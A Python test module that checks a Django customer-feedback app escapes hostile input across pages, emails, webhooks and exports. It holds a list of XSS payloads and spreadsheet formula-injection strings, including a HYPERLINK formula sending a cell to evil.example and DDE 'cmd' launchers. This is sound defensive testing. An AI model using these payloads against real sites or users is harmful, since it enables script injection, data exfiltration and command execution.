"""Hostile text typed by customers and integrations is shown as text everywhere.

A corpus of XSS payloads (script tags, event handlers, ``javascript:`` URLs, SVG,
attribute breakouts, template syntax, Unicode tricks) and spreadsheet formulas goes in
where outsiders write: free-text answers (through the answer page), customer names and
attributes and event properties (through the event API), and touchpoint names. Each
payload carries a marker (``xss01`` … ``fml06``).

Then every output that shows them is rendered and read:

- HTML (staff pages, admin, the answer page, the HTML part of emails, the maturity
  report): a payload is *raw* when it appears verbatim (or, for the full-width
  variant, as its NFKC form) or when its marker lands in markup rather than text: a tag
  or attribute name, an event-handler attribute, a ``javascript:``/``data:`` URL, the
  inside of ``<script>``/``<style>``, or a comment. A marker in text (or in an ordinary
  quoted attribute value) is *escaped*: shown, harmlessly. Template syntax must never
  be evaluated (``{{ 7|add:42 }}`` never becomes 49). Every surface must show some
  payloads escaped, and none raw; every HTML page carries a Content-Security-Policy
  whose script-src has no 'unsafe-inline'.
- Plain-text email parts are not HTML: there text is shown as it is, so they are only
  checked to be text/plain (and counted).
- The webhook payload is JSON data: the payloads come back byte for byte, not escaped.
- CSV and XLSX exports: a cell that would start a formula starts with an apostrophe,
  and no XLSX cell is a formula.
"""

from __future__ import annotations

import csv
import io
import json
import re
import unicodedata
from collections import Counter
from dataclasses import dataclass, field
from html.parser import HTMLParser
from typing import Any
from unittest import mock

import pytest
from django.test import Client
from openpyxl import load_workbook

from cx.models import Customer, Event, TouchpointEventType
from cx.services.journeys import touchpoint_save
from followups.emails import owner_message
from followups.models import FollowUp
from insights.exports import FORMULA_STARTS
from maturity.models import Assessment
from maturity.report import report_html
from maturity.services import assessment_compute, assessment_request
from surveys.emails import invitation_message
from surveys.models import Invitation, Response, TriggerRule
from tests.counts import ABUSE
from tests.security.conftest import answer_invitation
from tests.security.probing import body_text
from webhooks import services as webhook_services
from webhooks.models import WebhookDelivery
from webhooks.receivers import response_payload

pytestmark = pytest.mark.django_db

XSS = [
    "<script>alert('xss01')</script>",
    "<img/src=x/onerror=alert('xss02')>",
    "<svg/onload=alert('xss03')>",
    "\"><script>alert('xss04')</script>",
    "'><img/src=x/onerror=alert('xss05')>",
    "javascript:alert('xss06')",
    '" onmouseover="alert(\'xss07\')" x="',
    "' onfocus='alert(`xss08`)' autofocus='",
    "<a href=\"javascript:alert('xss09')\">click xss09</a>",
    "<iframe src=\"javascript:alert('xss10')\"></iframe>",
    "<body onload=alert('xss11')>",
    "<svg><script>alert('xss12')</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('xss13')>",
    "</textarea><script>alert('xss14')</script>",
    "</title><script>alert('xss15')</script>",
    "<style>@import'//evil.example/xss16.css';</style>",
    "<!--<script>alert('xss17')</script>-->",
    "{{ 7|add:42 }}xss18",
    "{% load static %}{% debug %}xss19",
    "{first_name}{touchpoint}{event.note}xss20",
    "${7*7}#{7*7}xss21",
    "＜script＞alert('xss22')＜/script＞",  # full-width: NFKC makes it a tag
    "\u202e<script>alert('xss23')</script>",  # right-to-left override
    "<scr\u200bipt>alert('xss24')</scr\u200bipt><script>xss24</script>",
    "%3Cscript%3Ealert('xss25')%3C/script%3E",
    "&lt;script&gt;alert('xss26')&lt;/script&gt;",
    "<div style=\"background:url(javascript:alert('xss27'))\">xss27</div>",
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">xss28',
    "<details open ontoggle=alert('xss29')>",
    "]]><script>alert('xss30')</script>",
    "<xss31 onpointerenter=alert(1)>",
]
FORMULAS = [
    '=HYPERLINK("https://evil.example/?d="&A1,"fml01")',
    "+cmd|' /C calc'!A0 fml02",
    "-2+3+cmd|' /C calc'!A0 fml03",
    "@SUM(1+1)*cmd|' /C calc'!A0 fml04",
    "\t=1+1 fml05",
    "\r=1+1 fml06",
]
PAYLOADS = XSS + FORMULAS
MARKER = re.compile(r"(?:xss|fml)\d\d")
TAG_START = "<"  # verbatim, a payload with one makes markup; quotes are the parser's
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "xlink:href", "srcdoc"}
EVALUATED = ["49xss18", "49#{7*7}xss21"]


class MarkupScanner(HTMLParser):
    """Count markers found in markup (raw) and in text (escaped) of an HTML page."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.raw: Counter[str] = Counter()
        self.escaped: Counter[str] = Counter()
        self._inside: str | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.raw.update(MARKER.findall(tag))
        for name, value in attrs:
            value = value or ""
            self.raw.update(MARKER.findall(name))
            dangerous = (
                name.startswith("on")
                or (name in URL_ATTRIBUTES and _is_script_url(value))
                or (name == "style" and "url(" in value.lower())
            )
            (self.raw if dangerous else self.escaped).update(MARKER.findall(value))
        if tag in ("script", "style"):
            self._inside = tag

    handle_startendtag = handle_starttag

    def handle_endtag(self, tag: str) -> None:
        if tag == self._inside:
            self._inside = None

    def handle_data(self, data: str) -> None:
        (self.raw if self._inside else self.escaped).update(MARKER.findall(data))

    def handle_comment(self, data: str) -> None:
        self.raw.update(MARKER.findall(data))


def _is_script_url(value: str) -> bool:
    squeezed = re.sub(r"[\s\x00-\x1f]", "", value).lower()
    return squeezed.startswith(("javascript:", "data:", "vbscript:"))


@dataclass
class Surface:
    """What one kind of output showed of the corpus."""

    outputs: int = 0
    raw: Counter[str] = field(default_factory=Counter)
    escaped: Counter[str] = field(default_factory=Counter)
    evaluated: int = 0
    entities: int = 0  # plain text only: HTML entities shown to the reader

    def read_html(self, html: str) -> None:
        self.outputs += 1
        scanner = MarkupScanner()
        scanner.feed(html)
        scanner.close()
        self.raw.update(scanner.raw)
        self.escaped.update(scanner.escaped)
        for payload in PAYLOADS:
            forms = {payload, unicodedata.normalize("NFKC", payload)}
            for form in forms:
                if TAG_START in form and form in html:
                    self.raw[MARKER.search(payload).group()] += html.count(form)  # type: ignore[union-attr]
        self.evaluated += sum(html.count(mark) for mark in EVALUATED)


@pytest.fixture
def corpus(tenant, aurora, aino, api, client, django_capture_on_commit_callbacks):  # type: ignore[no-untyped-def]
    """Aurora with one customer, touchpoint, event and answered survey per payload."""
    aurora.name = "Aurora <svg/onload=alert('xss32')>"
    aurora.save()
    a = tenant(aurora, aino, api, "aurora")
    nps = a.survey.questions.get(key="nps")
    nps.text = {"en": "{first_name}, how was {touchpoint}? ({event.note})"}
    nps.save()
    invitations = []
    for number, payload in enumerate(PAYLOADS, start=1):
        touchpoint = touchpoint_save(
            organization=aurora,
            fields={"journey": a.journey, "position": 10 + number, "name": payload,
                    "channel": "web", "owner": aino},
            event_types=[f"corpus.{number}"],
        )  # fmt: skip
        TriggerRule.objects.create(
            organization=aurora,
            name=f"Corpus {number}",
            survey=a.survey,
            touchpoint=touchpoint,
        )
        event = {
            "event_id": f"corpus-{number}",
            "type": f"corpus.{number}",
            "customer": {
                "external_id": f"corpus-{number}",
                "email": f"corpus{number}@corpus.example",
                "name": payload,
                "language": "en",
                "attributes": {"tier": "vip", "note": payload},
            },
            "properties": {"note": payload},
        }
        with django_capture_on_commit_callbacks(execute=True):
            assert api.post("/api/v1/events/", event, format="json").status_code == 201
        invitations.append(Invitation.objects.get(event__event_id=f"corpus-{number}"))
    assert TouchpointEventType.objects.filter(event_type="corpus.1").exists()
    return a, invitations


def _check_csp(response: Any, problems: list[str], url: str) -> None:
    if "text/html" not in response.get("Content-Type", ""):
        return
    policy = response.get("Content-Security-Policy", "")
    script_src = next(
        (part for part in policy.split(";") if part.strip().startswith("script-src")),
        "",
    )
    if not script_src or "unsafe-inline" in script_src:
        problems.append(f"{url}: Content-Security-Policy {policy!r}")


def test_no_payload_is_rendered_raw_anywhere(corpus, client, aino, count_report):
    a, invitations = corpus
    surfaces: dict[str, Surface] = {}
    csp_problems: list[str] = []
    pages = 0

    def page(surface: str, url: str, browser: Client) -> None:
        nonlocal pages
        response = browser.get(url)
        assert response.status_code == 200, (url, response.status_code)
        pages += 1
        _check_csp(response, csp_problems, url)
        surfaces.setdefault(surface, Surface()).read_html(response.content.decode())

    # The customer's answer page, before answering: names and properties piped in.
    customer = Client()
    for invitation in invitations:
        page("answer page", f"/s/{invitation.token()}/", customer)
        answer_invitation(
            customer, invitation, nps="0", csat="1", ces="7", resolved="0",
            comment=invitation.customer.name,
        )  # fmt: skip
    responses = list(Response.objects.filter(invitation__in=invitations).order_by("pk"))
    assert len(responses) == len(PAYLOADS)
    assert all(r.state == Response.State.COMPLETED for r in responses)
    followups = list(FollowUp.objects.filter(response__in=responses))
    assert len(followups) == len(PAYLOADS)

    client.force_login(aino)
    for url in ("/feedback/", "/feedback/?page=2"):
        page("feedback list", url, client)
    for response in responses:
        page("feedback detail", f"/feedback/{response.pk}/", client)
    page("follow-up queue", "/followups/", client)
    for followup in followups:
        page("follow-up detail", f"/followups/{followup.pk}/", client)
    page("dashboard", "/dashboard/", client)
    page("dashboard panels", "/dashboard/panels/", client)

    admin_objects = {
        "response": responses,
        "customer": list(Customer.objects.filter(external_id__startswith="corpus-")),
        "event": list(Event.objects.filter(event_id__startswith="corpus-")),
        "followup": followups,
    }
    paths = {"response": "surveys", "customer": "cx", "event": "cx",
             "followup": "followups"}  # fmt: skip
    for name, objects in admin_objects.items():
        base = f"/admin/{paths[name]}/{name}/"
        page(f"admin {name} changelist", base, client)
        for obj in objects:
            page(f"admin {name} change", f"{base}{obj.pk}/change/", client)
    page("admin touchpoint changelist", "/admin/cx/touchpoint/", client)

    for invitation in invitations:
        message = invitation_message(invitation)
        surfaces.setdefault("invitation email (HTML)", Surface()).read_html(
            _html_part(message)
        )
        _read_text(surfaces, "invitation email (text)", message)
    for followup in followups:
        message = owner_message(followup)
        assert message is not None
        surfaces.setdefault("owner alert email (HTML)", Surface()).read_html(
            _html_part(message)
        )
        _read_text(surfaces, "owner alert email (text)", message)

    requested = assessment_request(organization=a.organization)  # never committed:
    assessment_compute(
        assessment_id=requested.pk
    )  # so computed here, as the task would
    assessment = Assessment.objects.get(pk=requested.pk)
    assert assessment.status == Assessment.Status.DONE, assessment.error
    for language in ("en", "fi"):
        surfaces.setdefault("maturity report HTML", Surface()).read_html(
            report_html(assessment=assessment, language=language)
        )

    print(f"\ninjection corpus: {len(PAYLOADS)} payloads, {pages} HTML pages")
    for name, surface in surfaces.items():
        raw = sum(surface.raw.values())
        escaped = sum(surface.escaped.values())
        if "(text)" in name:
            print(
                f"  {name}: {surface.outputs} outputs, {escaped} shown as text/plain "
                f"(not HTML; {surface.entities} HTML entities in it), "
                f"{surface.evaluated} evaluated"
            )
            continue
        print(
            f"  {name}: {surface.outputs} outputs, {escaped} escaped, {raw} raw, "
            f"{surface.evaluated} evaluated"
        )
    html_surfaces = {n: s for n, s in surfaces.items() if "(text)" not in n}
    count_report.add(
        ABUSE,
        check=f"XSS and formula payloads on {len(surfaces)} surfaces, raw or run",
        attempts=sum(s.outputs for s in surfaces.values()),
        got_through=sum(sum(s.raw.values()) for s in html_surfaces.values())
        + sum(s.evaluated for s in surfaces.values()),
    )
    assert not csp_problems, csp_problems[:5]
    assert {n: dict(s.raw) for n, s in html_surfaces.items() if s.raw} == {}
    assert {n: s.evaluated for n, s in surfaces.items() if s.evaluated} == {}
    assert all(sum(s.escaped.values()) > 0 for s in html_surfaces.values()), {
        n: sum(s.escaped.values()) for n, s in html_surfaces.items()
    }


def _html_part(message: Any) -> str:
    (html, mimetype), *_ = message.alternatives
    assert mimetype == "text/html"
    return html


def _read_text(surfaces: dict[str, Surface], name: str, message: Any) -> None:
    """Count the payloads of a plain-text part, which is text, not HTML."""
    surface = surfaces.setdefault(name, Surface())
    assert message.content_subtype == "plain"
    surface.outputs += 1
    markers = MARKER.findall(message.body)
    surface.escaped.update(markers)
    surface.entities += sum(
        message.body.count(e) for e in ("&lt;", "&gt;", "&#x27;", "&quot;", "&amp;")
    )
    surface.evaluated += sum(message.body.count(mark) for mark in EVALUATED)


# Payloads that need not make markup even unescaped: template syntax (checked as never
# evaluated), URL- and entity-encoded text, and the full-width form (checked by NFKC).
INERT = {"xss18", "xss19", "xss20", "xss21", "xss25", "xss26"}


def test_the_detector_sees_each_payload_when_unescaped():
    """The check above would see each payload if a page put it in unescaped."""
    from django.utils.html import escape

    seen, missed = 0, []
    for payload in XSS:
        marker = MARKER.search(payload).group()  # type: ignore[union-attr]
        unsafe, safe = Surface(), Surface()
        for context in ("<p>{}</p>", '<input value="{}">', "<input value='{}'>",
                        '<a href="{}">x</a>'):  # fmt: skip
            unsafe.read_html(context.format(payload))
            safe.read_html(context.format(escape(payload)))
        if unsafe.raw[marker]:
            seen += 1
        elif marker not in INERT:
            missed.append(payload)
        if marker != "xss06":  # a javascript: link is unsafe even escaped
            assert not safe.raw, (payload, safe.raw)
    print(f"\ndetector: {seen} of {len(XSS)} payloads seen when put in unescaped")
    assert missed == []


def test_webhook_payload_is_json_with_the_text_as_given(corpus, client):
    _, invitations = corpus
    for invitation in invitations:
        answer_invitation(
            client, invitation, nps="0", csat="1", ces="7", resolved="0",
            comment=invitation.customer.name,
        )  # fmt: skip
    responses = Response.objects.filter(invitation__in=invitations).select_related(
        "touchpoint"
    )
    verbatim = escaped = 0
    for response in responses:
        payload = response_payload(response_id=response.pk)
        assert (
            json.loads(json.dumps(payload, default=str))["response_id"] == response.pk
        )
        comment = next(
            a["text"] for a in payload["answers"] if a["question"] == "comment"
        )
        texts = [comment, payload["touchpoint"]["name"]]
        originals = [
            response.invitation.customer.name.strip(),
            response.touchpoint.name,
        ]
        for text, original in zip(texts, originals, strict=True):
            if text == original:
                verbatim += 1
            elif "&lt;" in text or "&#x27;" in text or "&quot;" in text:
                escaped += 1
    # What is sent: the stored delivery, as the webhook request carries it.
    sent: list[tuple[bytes, dict[str, str]]] = []

    class Recorder:
        def __init__(self, *args: object, **kwargs: object) -> None:
            pass

        def request(self, method: str, target: str, body: bytes, headers: dict) -> None:
            sent.append((body, headers))

        def getresponse(self) -> Any:
            return mock.Mock(status=200, read=lambda n: b"ok")

        def close(self) -> None:
            pass

    delivery = WebhookDelivery.objects.filter(
        payload__data__response_id=responses[0].pk
    ).get()
    with mock.patch.object(webhook_services.http.client, "HTTPSConnection", Recorder):
        status, _ = webhook_services._post(
            delivery.endpoint.url, secret=delivery.endpoint.secret,
            message_id=delivery.message_id, payload=delivery.payload,
        )  # fmt: skip
    ((body, headers),) = sent
    decoded = json.loads(body)
    print(
        f"\nwebhook payload: {2 * len(responses)} texts, {verbatim} verbatim, "
        f"{escaped} HTML-escaped; sent as {headers['content-type']}"
    )
    assert status == 200
    assert headers["content-type"] == "application/json"
    assert decoded["data"]["touchpoint"]["name"] == responses[0].touchpoint.name
    assert (verbatim, escaped) == (2 * len(responses), 0)


def test_exports_neutralise_every_formula(corpus, client, aino, api):
    _, invitations = corpus
    for invitation in invitations:
        answer_invitation(
            client, invitation, nps="0", csat="1", ces="7", resolved="0",
            comment=invitation.customer.name,
        )  # fmt: skip
    client.force_login(aino)
    files = {
        "API CSV": api.get("/api/v1/responses/export.csv"),
        "API XLSX": api.get("/api/v1/responses/export.xlsx"),
        "staff CSV": client.get("/dashboard/export.csv"),
        "staff XLSX": client.get("/dashboard/export.xlsx"),
    }
    counts: dict[str, Counter[str]] = {}
    for name, response in files.items():
        assert response.status_code == 200, name
        if "CSV" in name:
            text = body_text(response).split("\n", 1)[1].lstrip("\ufeff")
            cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
            kinds = ["s"] * len(cells)
        else:
            raw = b"".join(response.streaming_content)
            sheet = load_workbook(io.BytesIO(raw)).active
            found = [cell for row in sheet.iter_rows() for cell in row]
            cells = [
                str(cell.value) if cell.value is not None else "" for cell in found
            ]
            kinds = [cell.data_type for cell in found]
        tally: Counter[str] = Counter()
        for cell, kind in zip(cells, kinds, strict=True):
            if kind == "f":
                tally["formula cells"] += 1
            if not MARKER.search(cell):
                continue
            tally["payload cells"] += 1
            if cell.startswith(FORMULA_STARTS):
                tally["would run"] += 1
            # (XML, and so XLSX, reads a carriage return back as a line feed.)
            elif cell.startswith("'") and cell[1:].startswith((*FORMULA_STARTS, "\n")):
                tally["neutralised"] += 1
        counts[name] = tally
    print("\nexports:", {name: dict(tally) for name, tally in counts.items()})
    for name, tally in counts.items():
        assert tally["would run"] == 0 and tally["formula cells"] == 0, (name, tally)
        # Each formula is a touchpoint name and (trimmed) a comment: both neutralised.
        assert tally["neutralised"] >= 2 * len(FORMULAS), (name, tally)
